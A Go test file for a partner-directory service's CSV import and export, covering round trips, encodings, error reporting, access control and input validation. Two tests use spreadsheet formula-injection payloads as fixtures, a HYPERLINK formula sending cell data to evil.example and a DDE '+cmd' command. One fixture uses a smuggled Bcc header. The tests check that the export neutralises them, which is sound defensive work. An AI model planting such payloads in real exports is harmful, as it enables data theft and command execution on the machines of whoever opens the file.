package partner_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/text/encoding/charmap"

	"pakt/internal/apperr"
	"pakt/internal/auth"
	"pakt/internal/csvio"
	"pakt/internal/csvio/csviotest"
	"pakt/internal/db"
	"pakt/internal/db/dbtest"
	"pakt/internal/partner"
)

// freshDB returns another empty database of the engine d runs on.
func freshDB(t *testing.T, d *db.DB) *db.DB {
	t.Helper()
	if d.Engine == db.Postgres {
		return dbtest.Postgres(t)
	}
	return dbtest.SQLite(t)
}

// mustSetUp creates the competencies (in the order given, so that their ids
// sort differently in each database) and the partner manager pm@example.com.
func mustSetUp(t *testing.T, d *db.DB, s *partner.Service, slugs ...string) map[string]string {
	t.Helper()
	ctx := context.Background()
	ids := map[string]string{}
	for _, slug := range slugs {
		c, err := s.SaveCompetency(ctx, auth.System, "", partner.CompetencyInput{Slug: ptr(slug), NameDE: ptr(slug), NameEN: ptr(slug)})
		if err != nil {
			t.Fatalf("competency %s: %v", slug, err)
		}
		ids[slug] = c.ID
	}
	u, err := auth.NewService(d, time.Now).CreateUser(ctx, auth.System, auth.UserInput{Email: ptr("pm@example.com"),
		Name: ptr("Petra Manager"), Role: ptr(auth.RoleManager), Password: ptr("correct horse battery")})
	if err != nil {
		t.Fatalf("manager: %v", err)
	}
	ids["manager"] = u.ID
	return ids
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func mustExport(t *testing.T, s *partner.Service) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := partner.ExportCSV(context.Background(), s, auth.System, &b, csvio.Plain); err != nil {
		t.Fatalf("export: %v", err)
	}
	return b.Bytes()
}

func mustCount(t *testing.T, d *db.DB) int {
	t.Helper()
	n, err := countOrgs(d)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

// where lists the row and column of each error, e.g. "3 country".
func where(errs []partner.RowError) []string {
	out := make([]string, len(errs))
	for i, e := range errs {
		out[i] = fmt.Sprintf("%d %s", e.Row, e.Column)
	}
	return out
}

func TestExportImportRoundTrip(t *testing.T) {
	t.Parallel()
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		s := partner.NewService(d, clock)
		ids := mustSetUp(t, d, s, "azure", "security", "kuenstliche-intelligenz")

		m := mustCreate(t, s, partner.Input{LegalName: ptr("Müller IT GmbH & Co. KG"), Domain: ptr("https://www.mueller-it.de"),
			Description: ptr("Beratung, Umsetzung und Betrieb.\r\nZweite Zeile mit \"Anführungszeichen\"; und Semikolon."),
			Country:     ptr("DE"), Region: ptr("Bayern"), City: ptr("München"), Size: ptr("medium"),
			Industries: ptr([]string{"manufacturing", "it"}), Tier: ptr("gold"), ManagerID: ptr(ids["manager"]), Published: ptr(true),
			Competencies: ptr([]string{ids["kuenstliche-intelligenz"], ids["azure"]})})
		must(t, partner.SaveEntry(ctx, s, auth.System, m.ID, &partner.Certification{Name: "Microsoft Solutions Partner", Issuer: "Microsoft", ValidUntil: partner.Date{Time: time.Date(2027, 6, 30, 0, 0, 0, 0, time.UTC)}}))
		must(t, partner.SaveEntry(ctx, s, auth.System, m.ID, &partner.Certification{Name: "ISO 27001"}))
		must(t, partner.SaveEntry(ctx, s, auth.System, m.ID, &partner.Reference{Title: "Werksnetz für Brückner AG", Customer: "Brückner AG", Industry: "manufacturing", Year: 2025, Description: "Planung und Rollout, 12 Standorte"}))
		must(t, partner.SaveEntry(ctx, s, auth.System, m.ID, &partner.Resource{Skill: "Azure-Beratung", AmountTenths: 5, Unit: "fte",
			From: partner.Date{Time: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)}, To: partner.Date{Time: time.Date(2027, 3, 31, 0, 0, 0, 0, time.UTC)}}))
		must(t, partner.SaveEntry(ctx, s, auth.System, m.ID, &partner.Resource{Skill: "Security-Audit", AmountTenths: 200, Unit: "days",
			From: partner.Date{Time: time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)}, To: partner.Date{Time: time.Date(2027, 1, 31, 0, 0, 0, 0, time.UTC)}}))
		must(t, partner.SaveEntry(ctx, s, auth.System, m.ID, &partner.Contact{Name: "Anna Schäfer", Position: "Geschäftsführerin", Email: "anna@mueller-it.de", Phone: "+49 89 123456", DecisionMaker: true, CLevel: true}))
		must(t, partner.SaveEntry(ctx, s, auth.System, m.ID, &partner.Contact{Name: "Jörg Weiß", Position: "Vertrieb"}))

		mustCreate(t, s, partner.Input{LegalName: ptr("Österreich Digital GmbH"), Kind: ptr("prospect"), Status: ptr("prospect"), Country: ptr("AT"), City: ptr("Wien")})
		z := mustCreate(t, s, partner.Input{LegalName: ptr("Zürcher Sicherheit AG"), Country: ptr("CH"), Competencies: ptr([]string{ids["security"]})})
		// "|" cannot be written inside an entry: the export writes "/".
		must(t, partner.SaveEntry(ctx, s, auth.System, z.ID, &partner.Contact{Name: "Urs Keller", Position: "CEO | Gründer", Email: "urs@zuercher.ch", DecisionMaker: true}))

		first := mustExport(t, s)
		wantHeader := "id,kind,legal_name,domain,description,country,region,city,size,industries,status,tier,manager_email,published,competencies,certifications,references,resources,contacts\n"
		if !bytes.HasPrefix(first, []byte(wantHeader)) {
			t.Fatalf("export starts %q, want the header %q", first[:min(len(first), 200)], wantHeader)
		}
		for _, want := range []string{"Müller IT GmbH & Co. KG", "pm@example.com", "azure|kuenstliche-intelligenz", "it|manufacturing",
			"Microsoft Solutions Partner | Microsoft | 2027-06-30\nISO 27001", "Azure-Beratung | 0.5 | fte | 2026-12-01 | 2027-03-31",
			"Anna Schäfer | Geschäftsführerin | anna@mueller-it.de | +49 89 123456 | yes | yes", "Jörg Weiß | Vertrieb |  |  | no | no", "Urs Keller | CEO / Gründer"} {
			if !bytes.Contains(first, []byte(want)) {
				t.Errorf("export lacks %q:\n%s", want, first)
			}
		}

		d2 := freshDB(t, d)
		s2 := partner.NewService(d2, clock)
		mustSetUp(t, d2, s2, "kuenstliche-intelligenz", "security", "azure")
		rep, err := partner.ImportCSV(ctx, s2, auth.System, bytes.NewReader(first), partner.ImportOptions{})
		if err != nil {
			t.Fatalf("import of an export: %v (errors %+v)", err, rep)
		}
		if rep.Imported != 3 || len(rep.Errors) != 0 {
			t.Fatalf("import of an export: %+v, want 3 imported and no errors", rep)
		}
		second := mustExport(t, s2)
		if !bytes.Equal(first, second) {
			t.Fatalf("export → import → export changed the file:\nfirst:\n%s\nsecond:\n%s", first, second)
		}
	})
}

func TestImportExcelWindows1252(t *testing.T) {
	t.Parallel()
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		s := partner.NewService(d, clock)
		file := "Firmenname;Ort;Land;Branchen;Veröffentlicht;Größe;Ressourcen;Kontakte\r\n" +
			"Müller IT GmbH & Co. KG;München;DE;IT|Manufacturing;ja;medium;\"Azure-Beratung | 0,5 | FTE | 01.12.2026 | 31.03.2027\";\"Jörg Weiß | Geschäftsführer | joerg@mueller-it.de | | ja | ja\"\r\n" +
			"\"Bäckerei-IT; Süd\";Nürnberg;de;;nein;small;;\r\n"
		enc, err := charmap.Windows1252.NewEncoder().String(file)
		if err != nil {
			t.Fatal(err)
		}
		rep, err := partner.ImportCSV(ctx, s, auth.System, strings.NewReader(enc), partner.ImportOptions{})
		if err != nil {
			t.Fatalf("import: %v (errors %+v)", err, rep)
		}
		if rep.Imported != 2 {
			t.Fatalf("imported %d, want 2", rep.Imported)
		}
		all, err := s.All(ctx, auth.System)
		if err != nil {
			t.Fatal(err)
		}
		if len(all) != 2 {
			t.Fatalf("%d organisations, want 2", len(all))
		}
		b, m := all[0], all[1]
		if b.LegalName != "Bäckerei-IT; Süd" || b.City != "Nürnberg" || b.Country != "DE" || b.Published {
			t.Errorf("second row became %q in %q, %q, published %v", b.LegalName, b.City, b.Country, b.Published)
		}
		if m.LegalName != "Müller IT GmbH & Co. KG" || m.City != "München" || !m.Published || m.Size != "medium" ||
			strings.Join(m.Industries, ",") != "it,manufacturing" {
			t.Errorf("first row became %q in %q, published %v, size %q, industries %v", m.LegalName, m.City, m.Published, m.Size, m.Industries)
		}
		if len(m.Resources) != 1 || m.Resources[0].AmountTenths != 5 || m.Resources[0].Unit != "fte" || m.Resources[0].From.String() != "2026-12-01" {
			t.Errorf("resources %+v, want 0.5 FTE from 2026-12-01", m.Resources)
		}
		if len(m.Contacts) != 1 || m.Contacts[0].Name != "Jörg Weiß" || m.Contacts[0].Position != "Geschäftsführer" || !m.Contacts[0].DecisionMaker || !m.Contacts[0].CLevel {
			t.Errorf("contacts %+v, want Jörg Weiß, Geschäftsführer, decision maker, C-level", m.Contacts)
		}
	})
}

// badFile has errors in rows 3 (country) and 5 (the second contact's
// e-mail). Row 4 spans two lines of the file, as a spreadsheet shows it in
// one row.
const badFile = `legal_name,country,contacts
Alpha GmbH,DE,
Beta GmbH,XX,
Gamma GmbH,DE,"Anna Alt | CEO | anna@gamma.de
Bernd Berg | CTO | bernd@gamma.de"
Delta GmbH,AT,"Dora Dorn | CEO | dora@delta.de
Dieter Dach | CFO | not-an-email"
Epsilon GmbH,CH,
`

func TestImportRefusesAFileWithErrors(t *testing.T) {
	t.Parallel()
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		s := partner.NewService(d, clock)
		rep, err := partner.ImportCSV(context.Background(), s, auth.System, strings.NewReader(badFile), partner.ImportOptions{})
		if err == nil {
			t.Fatal("a file with bad rows was accepted")
		}
		if !strings.Contains(err.Error(), "2 rows have errors") || !strings.Contains(err.Error(), "nothing was imported") {
			t.Errorf("error %q does not say that 2 rows are bad and nothing was imported", err)
		}
		if got, want := strings.Join(where(rep.Errors), "; "), "3 country; 5 contacts"; got != want {
			t.Fatalf("errors at %q, want %q (%+v)", got, want, rep.Errors)
		}
		if msg := rep.Errors[1].Message; !strings.Contains(msg, "entry 2, email") {
			t.Errorf("contacts error %q does not name entry 2's e-mail", msg)
		}
		if rep.Imported != 0 {
			t.Errorf("report says %d imported", rep.Imported)
		}
		if n := mustCount(t, d); n != 0 {
			t.Fatalf("%d organisations in the database after a refused import, want 0", n)
		}
	})
}

func TestImportSkipInvalidWritesRejects(t *testing.T) {
	t.Parallel()
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		s := partner.NewService(d, clock)
		var rejects bytes.Buffer
		var done, total int
		rep, err := partner.ImportCSV(context.Background(), s, auth.System, strings.NewReader(badFile), partner.ImportOptions{
			SkipInvalid: true, Rejects: &rejects, Progress: func(d, t int) { done, total = d, t }})
		if err != nil {
			t.Fatalf("import with --skip-invalid: %v", err)
		}
		if rep.Imported != 3 || rep.Rejected != 2 || len(rep.Errors) != 2 {
			t.Fatalf("report %+v, want 3 imported, 2 rejected, 2 errors", rep)
		}
		if n := mustCount(t, d); n != 3 {
			t.Fatalf("%d organisations in the database, want 3", n)
		}
		if done != 3 || total != 3 {
			t.Errorf("progress ended at %d of %d, want 3 of 3", done, total)
		}
		recs, err := csv.NewReader(&rejects).ReadAll()
		if err != nil {
			t.Fatalf("rejects file: %v\n%s", err, rejects.String())
		}
		if len(recs) != 3 || strings.Join(recs[0], ",") != "legal_name,country,contacts,error" {
			t.Fatalf("rejects file %q, want the header with an error column and 2 rows", recs)
		}
		if recs[1][0] != "Beta GmbH" || !strings.HasPrefix(recs[1][3], "country: ") {
			t.Errorf("first rejected row %q, want Beta GmbH with a country error", recs[1])
		}
		if recs[2][0] != "Delta GmbH" || !strings.Contains(recs[2][2], "Dieter Dach | CFO | not-an-email") || !strings.HasPrefix(recs[2][3], "contacts: entry 2, email") {
			t.Errorf("second rejected row %q, want Delta GmbH with its contacts and their error", recs[2])
		}
	})
}

func TestImportNamesRowAndColumn(t *testing.T) {
	t.Parallel()
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		s := partner.NewService(d, clock)
		mustSetUp(t, d, s, "azure")
		file := "Name,Veröffentlicht,Partnermanager,Kompetenzen,Zertifikate,Ressourcen,Branchen\n" +
			"A,vielleicht,,,,,\n" +
			"B,,nobody@example.com,,,,\n" +
			"C,,,azure|quantum,,,\n" +
			"D,,,,ISO 27001 | TÜV | 31.02.2027,,\n" +
			"E,,,,,\"Beratung | 1,25 | days | 2026-01-01 | 2026-02-01\",\n" +
			"F,,,,,,it|bakery\n" +
			"G,x,PM@example.com,azure,ISO 27001 | TÜV | 31.12.2027,\"Beratung | 1,5 | Tage | 2026-01-01 | 2026-02-01\",IT\n" +
			"H,,\n" +
			"b,,,,,,\n" +
			",,,,,,\n" +
			"I,,,,,Beratung | 2 | hours | 2026-03-01 | 2026-02-01,\n"
		rep, err := partner.ImportCSV(ctx, s, auth.System, strings.NewReader(file), partner.ImportOptions{})
		if err == nil {
			t.Fatal("a file with bad rows was accepted")
		}
		want := []string{"2 Veröffentlicht", "3 Partnermanager", "4 Kompetenzen", "5 Zertifikate", "6 Ressourcen",
			"7 Branchen", "9 Kompetenzen", "10 Name", "12 Ressourcen", "12 Ressourcen"}
		if got := where(rep.Errors); strings.Join(got, "; ") != strings.Join(want, "; ") {
			t.Fatalf("errors at\n%q, want\n%q\n%+v", got, want, rep.Errors)
		}
		for i, part := range map[int]string{2: "quantum", 3: "entry 1, valid_until", 4: "entry 1, amount", 5: "bakery",
			6: "3 cells", 7: "Row 3", 8: "entry 1, unit: Not an allowed value. Allowed: days, fte", 9: "entry 1, to"} {
			if !strings.Contains(rep.Errors[i].Message, part) {
				t.Errorf("error %d %q lacks %q", i, rep.Errors[i].Message, part)
			}
		}
		if n := mustCount(t, d); n != 0 {
			t.Fatalf("%d organisations after a refused import, want 0", n)
		}
	})
}

func TestImportRefusesABrokenHeaderOrQuote(t *testing.T) {
	t.Parallel()
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		s := partner.NewService(d, clock)
		opt := partner.ImportOptions{SkipInvalid: true, Rejects: &bytes.Buffer{}}
		rep, err := partner.ImportCSV(ctx, s, auth.System, strings.NewReader("legal_name,colour,Land,land\nX,red,DE,DE\n"), opt)
		if err == nil {
			t.Fatal("a header with an unknown and a duplicate column was accepted")
		}
		if got, want := strings.Join(where(rep.Errors), "; "), "1 colour; 1 land"; got != want {
			t.Fatalf("header errors at %q, want %q (%+v)", got, want, rep.Errors)
		}
		rep, err = partner.ImportCSV(ctx, s, auth.System, strings.NewReader("Ort,Land\nWien,AT\n"), opt)
		if err == nil || len(rep.Errors) != 1 || rep.Errors[0].Column != "legal_name" {
			t.Fatalf("a file without names: %v, %+v; want an error naming legal_name", err, rep)
		}
		rep, err = partner.ImportCSV(ctx, s, auth.System, strings.NewReader("city,legal_name\nBonn,Good GmbH\nMünchen,Müller \"IT\" GmbH\n"), opt)
		if err == nil || strings.Join(where(rep.Errors), "; ") != "3 legal_name" {
			t.Fatalf("a bare quote: %v, errors %+v; want one at row 3, column legal_name", err, rep)
		}
		if n := mustCount(t, d); n != 0 {
			t.Fatalf("%d organisations after refused imports, want 0", n)
		}
	})
}

func TestImportExportStaffOnly(t *testing.T) {
	t.Parallel()
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		s := partner.NewService(d, clock)
		own := mustCreate(t, s, partner.Input{LegalName: ptr("Eigene GmbH")})
		pa := &auth.Actor{UserID: "u-pa", Role: auth.RolePartnerAdmin, OrgID: own.ID}
		_, err := partner.ImportCSV(ctx, s, pa, strings.NewReader("legal_name\nNeue GmbH\n"), partner.ImportOptions{})
		if apperr.CodeOf(err) != apperr.Forbidden {
			t.Errorf("partner admin imports: got %v, want forbidden", err)
		}
		if err := partner.ExportCSV(ctx, s, pa, &bytes.Buffer{}, csvio.Plain); apperr.CodeOf(err) != apperr.Forbidden {
			t.Errorf("partner admin exports: got %v, want forbidden", err)
		}
		if n := mustCount(t, d); n != 1 {
			t.Fatalf("%d organisations, want only the 1 created before", n)
		}
	})
}

// A partner admin's formula in its name or region does not run when staff
// open the export in a spreadsheet, and the import reads every value back
// as it was typed.
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		s := partner.NewService(d, clock)
		mustSetUp(t, d, s)
		evil := mustCreate(t, s, partner.Input{LegalName: ptr(`=HYPERLINK("http://evil.example?"&A1,"x")`), Region: ptr(`+cmd|' /C calc'!A0`),
			City: ptr("@handle"), Description: ptr("-5 % auf alles\n=1+2")})
		must(t, partner.SaveEntry(ctx, s, auth.System, evil.ID, &partner.Contact{Name: "+49 30 1234567", Phone: "+49 30 1234567"}))
		must(t, partner.SaveEntry(ctx, s, auth.System, evil.ID, &partner.Reference{Title: "=1+2", Customer: "-5 %"}))
		mustCreate(t, s, partner.Input{LegalName: ptr("'=1+2"), Region: ptr("-5 %"), City: ptr("''@x")})
		want := map[string][3]string{}
		all, err := s.All(ctx, auth.System)
		must(t, err)
		for _, o := range all {
			want[o.LegalName] = [3]string{o.Region, o.City, o.Description}
		}

		first := mustExport(t, s)
		if bad := csviotest.FormulaCells(t, string(first)); len(bad) > 0 {
			t.Fatalf("the export has cells a spreadsheet runs as formulas: %q\n%s", bad, first)
		}

		d2 := freshDB(t, d)
		s2 := partner.NewService(d2, clock)
		mustSetUp(t, d2, s2)
		rep, err := partner.ImportCSV(ctx, s2, auth.System, bytes.NewReader(first), partner.ImportOptions{})
		if err != nil {
			t.Fatalf("import of the export: %v %+v", err, rep)
		}
		again, err := s2.All(ctx, auth.System)
		must(t, err)
		for _, o := range again {
			if got := [3]string{o.Region, o.City, o.Description}; got != want[o.LegalName] {
				t.Errorf("%q came back as %q, want %q", o.LegalName, got, want[o.LegalName])
			}
			if o.LegalName == evil.LegalName && (len(o.Contacts) != 1 || o.Contacts[0].Name != "+49 30 1234567" || len(o.References) != 1 || o.References[0].Title != "=1+2") {
				t.Errorf("profile entries came back as %+v and %+v", o.Contacts, o.References)
			}
		}
		if len(again) != len(want) {
			t.Errorf("%d organisations imported, want %d", len(again), len(want))
		}
		if second := mustExport(t, s2); !bytes.Equal(first, second) {
			t.Fatalf("export → import → export changed the file:\nfirst:\n%s\nsecond:\n%s", first, second)
		}
	})
}

// The rejects file of an import is written for a spreadsheet too, and
// imports back as it was.
func TestRejectsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		s := partner.NewService(d, clock)
		file := "legal_name,region,country\n\"=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"x\"\")\",+cmd|' /C calc'!A0,XX\nGut GmbH,,DE\n"
		var rejects bytes.Buffer
		_, err := partner.ImportCSV(context.Background(), s, auth.System, strings.NewReader(file), partner.ImportOptions{SkipInvalid: true, Rejects: &rejects})
		must(t, err)
		if bad := csviotest.FormulaCells(t, rejects.String()); len(bad) > 0 {
			t.Fatalf("the rejects file has cells a spreadsheet runs as formulas: %q\n%s", bad, rejects.String())
		}
		fixed := strings.Replace(rejects.String(), ",XX,", ",DE,", 1)
		rep, err := partner.ImportCSV(context.Background(), s, auth.System, strings.NewReader(fixed), partner.ImportOptions{})
		if err != nil {
			t.Fatalf("import of the corrected rejects: %v %+v", err, rep)
		}
		all, err := s.All(context.Background(), auth.System)
		must(t, err)
		var names []string
		for _, o := range all {
			names = append(names, o.LegalName+" / "+o.Region)
		}
		if !slices.Contains(names, `=HYPERLINK("http://evil.example?"&A1,"x") / +cmd|' /C calc'!A0`) {
			t.Errorf("organisations after the corrected import: %q", names)
		}
	})
}

// A line break, a NUL or a line separator in a single-line cell is refused
// with its row and column; free text keeps its line breaks as LF and loses
// the NUL.
func TestImportRefusesControlCharacters(t *testing.T) {
	t.Parallel()
	dbtest.Engines(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		s := partner.NewService(d, clock)
		mustSetUp(t, d, s)
		file := "legal_name,description,contacts,manager_email\n" +
			"\"Evil GmbH\nBcc: victim@evil.example\",ok,,\n" +
			"Gut GmbH,\"a\r\nb\x00c\",\"Anna\u2028Schmidt | CEO\",\n" +
			"Dritte GmbH,,,\"pm\x00@example.com\"\n"
		rep, err := partner.ImportCSV(ctx, s, auth.System, strings.NewReader(file), partner.ImportOptions{})
		if err == nil {
			t.Fatal("a file with control characters was imported")
		}
		if got, want := strings.Join(where(rep.Errors), "; "), "2 legal_name; 3 contacts; 4 manager_email"; got != want {
			t.Fatalf("errors at %q, want %q (%+v)", got, want, rep.Errors)
		}
		for i, want := range []string{"Must not contain control characters or line breaks.", "entry 1, name: Must not contain control characters",
			"Must not contain control characters"} {
			if !strings.Contains(rep.Errors[i].Message, want) {
				t.Errorf("error %d %q lacks %q", i, rep.Errors[i].Message, want)
			}
		}
		if n := mustCount(t, d); n != 0 {
			t.Fatalf("%d organisations after a refused import, want 0", n)
		}
		rep, err = partner.ImportCSV(ctx, s, auth.System, strings.NewReader("legal_name,description\nGut GmbH,\"a\r\nb\x00c\"\n"), partner.ImportOptions{})
		if err != nil {
			t.Fatalf("import: %v %+v", err, rep)
		}
		all, err := s.All(ctx, auth.System)
		must(t, err)
		if len(all) != 1 || all[0].Description != "a\nbc" {
			t.Errorf("imported description %q, want \"a\\nbc\"", all[0].Description)
		}
	})
}
